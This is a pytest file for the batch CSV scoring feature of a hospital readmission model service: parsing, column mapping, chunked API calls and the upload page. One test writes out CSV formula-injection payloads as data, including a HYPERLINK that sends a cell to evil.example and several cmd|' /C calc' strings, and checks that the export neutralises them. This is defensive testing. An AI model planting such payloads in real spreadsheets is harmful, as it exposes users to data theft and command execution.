"""Batch scoring: reading the data set's CSV format, mapping, chunking, and the page."""

from __future__ import annotations

import io

import httpx
import pandas as pd
import pytest

from readmit.dataset import typed_rows
from readmit.schema import COLUMNS, INPUT_FIELDS, SOURCE_NAMES
from readmit.serving.schemas import ModelRef, RecordResult
from readmit.stack.foreground import free_port
from readmit.ui.batch import (
    BatchFormatError,
    BatchScores,
    PartialBatchError,
    chunks,
    convert,
    field_name,
    map_columns,
    parse_batch,
    results_csv,
    results_frame,
    score,
)
from readmit.ui.client import ApiClient
from tests.models import records as api_records
from tests.ui.pages import assert_clean, click, errors, metrics, open_page

ROWS = 1_200
BAD_GENDER, BAD_COUNT = 3, 7  # rows made invalid on purpose


@pytest.fixture(scope="module")
def sample(full_dataset) -> pd.DataFrame:
    """Rows of the real data set in its own format, two of them broken."""
    frame = full_dataset.frame.head(ROWS).copy().reset_index(drop=True)
    frame.loc[BAD_GENDER, "gender"] = "Robot"
    frame.loc[BAD_COUNT, "num_medications"] = "lots"
    return frame


def _csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def test_source_and_api_column_names_map_to_the_same_field():
    for column in COLUMNS:
        assert field_name(column.source) == column.field
        assert field_name(column.field) == column.field


def test_extra_columns_are_ignored_and_missing_ones_named_by_source_name():
    columns = [c for c in SOURCE_NAMES if c not in ("A1Cresult", "glyburide-metformin")]
    used, ignored, missing = map_columns([*columns, "notes"])
    assert missing == ["A1Cresult", "glyburide-metformin"]
    assert ignored == ["readmitted", "notes"]
    assert used["diabetesmed"] == "diabetesMed" and "encounter_id" in used
    api_names = [*INPUT_FIELDS, "prior_encounters"]
    used, ignored, missing = map_columns(api_names)
    assert not missing and not ignored and set(used) == set(api_names)


def test_cells_are_converted_as_the_api_expects():
    assert convert("weight", "?") is None
    assert convert("diag_3", "") is None
    assert convert("max_glu_serum", "None") == "None"  # a category, not a null
    assert convert("time_in_hospital", " 5 ") == 5
    assert convert("time_in_hospital", "5.0") == 5
    assert convert("num_medications", "lots") == "lots"  # the API names the field
    assert convert("encounter_id", "9223372036854775807") == 2**63 - 1


def test_a_data_set_file_parses_to_api_records(sample):
    parsed = parse_batch(_csv(sample))
    assert len(parsed.records) == ROWS
    assert parsed.ignored == ["readmitted"]
    first = parsed.records[0]
    assert first["a1cresult"] == sample.loc[0, "A1Cresult"]
    assert first["glyburide_metformin"] == sample.loc[0, "glyburide-metformin"]
    assert isinstance(first["time_in_hospital"], int)
    assert all(r["weight"] is None for r in parsed.records if r["weight"] in (None, "?"))
    assert "?" not in {v for r in parsed.records for v in r.values() if isinstance(v, str)}


def test_a_file_without_required_columns_or_rows_is_refused(sample):
    with pytest.raises(BatchFormatError, match=r"lacks 2 required column\(s\): race, insulin"):
        parse_batch(_csv(sample.drop(columns=["race", "insulin"])))
    with pytest.raises(BatchFormatError, match="no rows"):
        parse_batch(_csv(sample.head(0)))
    with pytest.raises(BatchFormatError, match="not a readable CSV"):
        parse_batch(b"")


def test_chunks_cover_every_record_in_order():
    items = [{"i": i} for i in range(1_201)]
    pieces = list(chunks(items, 500))
    assert [(start, len(p)) for start, p in pieces] == [(0, 500), (500, 500), (1000, 201)]
    assert [r for _, p in pieces for r in p] == items
    with pytest.raises(ValueError, match="chunk size must be positive"):
        list(chunks(items, 0))


def test_chunked_scores_equal_one_direct_batch_call_with_per_record_errors(stack, sample):
    parsed = parse_batch(_csv(sample))
    seen: list[tuple[int, int]] = []
    scores = score(
        ApiClient(stack.api_url),
        parsed.records,
        500,
        lambda done, total: seen.append((done, total)),
    )
    assert seen == [(500, ROWS), (1000, ROWS), (ROWS, ROWS)]
    assert [r.index for r in scores.results] == list(range(ROWS))
    assert scores.rejected == 2
    assert "gender" in (scores.results[BAD_GENDER].error or "")
    assert "num_medications" in (scores.results[BAD_COUNT].error or "")
    # The same rows built independently of the UI, in one call.
    good = sample.drop(index=[BAD_GENDER, BAD_COUNT])
    expected = api_records(typed_rows(good).drop(columns=["readmitted"]))
    direct = httpx.post(
        f"{stack.api_url}/predict-batch", json={"records": expected}, timeout=120
    ).json()
    ours = [r.probability for r in scores.results if r.error is None]
    assert ours == pytest.approx([r["probability"] for r in direct["results"]], abs=1e-12)
    frame = results_frame(parsed, scores)
    assert list(frame.columns[-4:]) == ["probability", "readmitted_30d", "risk_band", "error"]
    assert frame["probability"].isna().sum() == 2
    again = pd.read_csv(io.StringIO(frame.to_csv(index=False)), dtype=str, keep_default_na=False)
    assert list(again["encounter_id"]) == list(sample["encounter_id"])


def test_the_results_csv_carries_no_formula(sample):
    """Cells a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) come back as text; numbers,
    negative ones included, stay numbers."""
    hostile = {
        "payer_code": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "medical_specialty": "+cmd|' /C calc'!A0",
        "diag_1": "-2+3+cmd|' /C calc'!A0",
        "diag_2": "@SUM(1+1)*cmd|' /C calc'!A0",
        "diag_3": "\t=1+1",
        "race": "\r=1+1",
    }
    frame = sample.head(3).copy()
    for column, text in hostile.items():
        frame.loc[0, column] = text
    frame.loc[1, "num_lab_procedures"] = "-5"
    frame["=HYPERLINK(1)"] = "x"
    parsed = parse_batch(frame.to_csv(index=False, lineterminator="\r\n").encode())
    scores = BatchScores(
        results=[
            RecordResult(index=i, probability=p, readmitted_30d=p > 0.5, error=None)
            for i, p in enumerate([0.25, 0.75, 0.5])
        ],
        threshold=0.5,
        model=ModelRef(name="readmission", version="1"),
    )
    written = results_csv(results_frame(parsed, scores))
    again = pd.read_csv(io.BytesIO(written), dtype=str, keep_default_na=False)
    for column, text in hostile.items():
        assert again.loc[0, column] == "'" + text
    assert again.loc[1, "num_lab_procedures"] == "-5"
    assert again.loc[2, "num_lab_procedures"] == sample.loc[2, "num_lab_procedures"]
    assert list(again["encounter_id"]) == list(sample["encounter_id"].head(3))
    assert list(again["probability"]) == ["0.25", "0.75", "0.5"]
    assert "'=HYPERLINK(1)" in again.columns
    assert len(again) == 3


def test_an_unreachable_api_stops_the_batch_with_what_was_done():
    client = ApiClient(f"http://127.0.0.1:{free_port()}")
    with pytest.raises(PartialBatchError, match="unreachable") as caught:
        score(client, [{"race": None}] * 3, 2)
    assert caught.value.done == 0


def test_the_batch_page_scores_an_uploaded_file(ui_env, sample):
    app = open_page("Batch")
    assert_clean(app)
    app.file_uploader(key="batch_upload").upload("ward.csv", _csv(sample), "text/csv").run()
    assert not errors(app)
    click(app, "Score the file")
    assert_clean(app)
    shown = metrics(app)
    assert shown["Scored"] == f"{ROWS - 2:,}" and shown["Rejected"] == "2"
    assert any("2 record(s) could not be scored" in w.value for w in app.warning)
    table = app.dataframe[-1].value
    assert len(table) == ROWS and list(table["row"][:2]) == [1, 2]
    assert table["error"].notna().sum() == 2
    assert len(app.get("vega_lite_chart")) == 1
    assert [d.label for d in app.get("download_button")] == ["Download the results as CSV"]


def test_the_batch_page_names_missing_columns(ui_env, sample):
    app = open_page("Batch")
    broken = _csv(sample.drop(columns=["A1Cresult"]))
    app.file_uploader(key="batch_upload").upload("broken.csv", broken, "text/csv").run()
    assert_clean(app)
    assert any("A1Cresult" in e for e in errors(app))
    assert "Score the file" not in [b.label for b in app.button]
